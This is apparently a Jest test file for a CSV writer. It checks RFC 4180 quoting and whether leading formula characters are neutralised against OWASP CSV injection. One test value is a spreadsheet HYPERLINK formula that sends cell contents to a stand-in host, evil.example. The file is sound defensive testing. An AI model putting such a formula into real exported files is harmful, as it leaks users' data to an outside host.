import { csvField, csvLine, loadableCsvField } from './csv-writer';

describe('csvField: RFC 4180 quoting', () => {
  it.each([
    ['plain', 'plain'],
    ['', ''],
    ['a,b', '"a,b"'],
    ['say "hi"', '"say ""hi"""'],
    ['line1\nline2', '"line1\nline2"'],
    ['cr\rhere', '"cr\rhere"'],
    ['<11', '<11'],
    ["it's", "it's"],
  ])('%j is written %j', (value, written) => expect(csvField(value)).toBe(written));

  it('writes nothing for null and undefined', () => {
    expect(csvField(null)).toBe('');
    expect(csvField(undefined)).toBe('');
  });
});

describe('csvField: formulas are written as text (OWASP CSV injection)', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', `"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"`],
    ['=1+1', "'=1+1"],
    ['+1', "'+1"],
    ['-1+2', "'-1+2"],
    ['@SUM(1)', "'@SUM(1)"],
    ['\t=1', "'\t=1"],
    ['\r=1', `"'\r=1"`],
    ['\n=1', `"'\n=1"`],
    // Text that looks like a negative number is still text: it may come from a file.
    ['-3', "'-3"],
    ["'=1", "'=1"],
  ])('%j is written %j', (value, written) => expect(csvField(value)).toBe(written));

  it('leaves formula characters after the first alone', () => {
    expect(csvField('a=1')).toBe('a=1');
    expect(csvField('PC 647(b) - misdemeanor')).toBe('PC 647(b) - misdemeanor');
    expect(csvField(' =1')).toBe(' =1');
  });

  it("writes the product's own numbers as numbers, negative ones too", () => {
    expect(csvField(-3)).toBe('-3');
    expect(csvField(12)).toBe('12');
    expect(csvField(-2.5)).toBe('-2.5');
    expect(csvField(BigInt(-7))).toBe('-7');
    expect(csvField(true)).toBe('true');
  });

  it('writes anything else as its text, neutralised like any text', () => {
    expect(csvField({ toString: () => '=1' })).toBe("'=1");
    expect(csvField(new Date(0))).toBe(String(new Date(0)));
  });
});

describe('csvLine', () => {
  it('joins fields with commas and ends with CRLF, or LF when asked', () => {
    expect(csvLine(['a', 1, null, 'b,c', '=x'])).toBe(`a,1,,"b,c",'=x\r\n`);
    expect(csvLine(['a', '+1'], '\n')).toBe("a,'+1\n");
    expect(csvLine([])).toBe('\r\n');
  });
});

describe('loadableCsvField: files loaded back (the generator, the keying kit)', () => {
  it('quotes only what needs it and never changes the value', () => {
    expect(loadableCsvField('plain')).toBe('plain');
    expect(loadableCsvField('a,b')).toBe('"a,b"');
    expect(loadableCsvField('say "hi"')).toBe('"say ""hi"""');
    expect(loadableCsvField('line\nbreak')).toBe('"line\nbreak"');
    expect(loadableCsvField('=1+1')).toBe('=1+1');
    expect(loadableCsvField('')).toBe('');
  });
});
